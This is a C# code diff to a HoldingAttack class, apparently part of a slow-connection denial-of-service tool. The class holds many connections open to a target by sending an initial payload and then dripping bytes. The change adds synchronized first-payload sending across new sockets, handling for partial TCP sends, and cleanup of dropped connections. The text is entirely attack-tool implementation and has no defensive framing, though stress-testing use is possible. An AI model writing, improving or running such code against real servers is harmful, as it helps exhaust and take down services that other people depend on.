@@ -12,6 +12,7 @@ internal sealed class HoldingAttack(Target target, int connections) : IAttack
     private const long SlackMs = 2_500; // Of the server's own clocks, and of a busy machine.
 
     private readonly LinkedList<AttackSocket> _open = new();
+    private readonly List<AttackSocket> _new = [];
     private double _owed;
     private long _lastMs;
     private long _lastDripMs;
@@ -25,6 +26,9 @@ internal sealed class HoldingAttack(Target target, int connections) : IAttack
 
     /// <summary>What is sent on each at once.</summary>
     public byte[] First { get; init; } = [];
+
+    /// <summary>Whether that is sent on all of them in the same moment, once a second.</summary>
+    public bool SendsTogether { get; init; }
 
     /// <summary>What follows, every so many milliseconds.</summary>
     public byte[] Drip { get; init; } = [];
@@ -52,6 +56,8 @@ internal sealed class HoldingAttack(Target target, int connections) : IAttack
             Open(nowMs);
         }
 
+        // TCP takes bytes only once the connection is made.
+        _new.RemoveAll(one => SendsTogether || TrySendFirst(one));
         if (nowMs - _lastDripMs >= Math.Min(DripMs, 1_000))
         {
             _lastDripMs = nowMs;
@@ -89,6 +95,7 @@ internal sealed class HoldingAttack(Target target, int connections) : IAttack
         }
 
         _open.Clear();
+        _new.Clear();
     }
 
     private void Open(long nowMs)
@@ -102,6 +109,14 @@ internal sealed class HoldingAttack(Target target, int connections) : IAttack
         }
 
         _open.AddLast(one);
+        _new.Add(one);
+    }
+
+    private bool TrySendFirst(AttackSocket one)
+    {
+        var count = one.Send(First.AsSpan((int)one.Sent));
+        one.Sent += Math.Max(count, 0);
+        return count < 0 || one.Sent == First.Length;
     }
 
     private void LookAtAll(long nowMs)
@@ -113,12 +128,19 @@ internal sealed class HoldingAttack(Target target, int connections) : IAttack
             {
                 _cut++;
                 _oldestMs = Math.Max(_oldestMs, nowMs - node.Value.OpenedMs);
-                node.Value.Dispose();
-                _open.Remove(node);
+                Close(node);
             }
 
             node = next;
         }
+    }
+
+    // Its number may soon be another one's: nothing more is sent on it.
+    private void Close(LinkedListNode<AttackSocket> node)
+    {
+        node.Value.Dispose();
+        _new.Remove(node.Value);
+        _open.Remove(node);
     }
 
     private bool IsHeld(AttackSocket one)
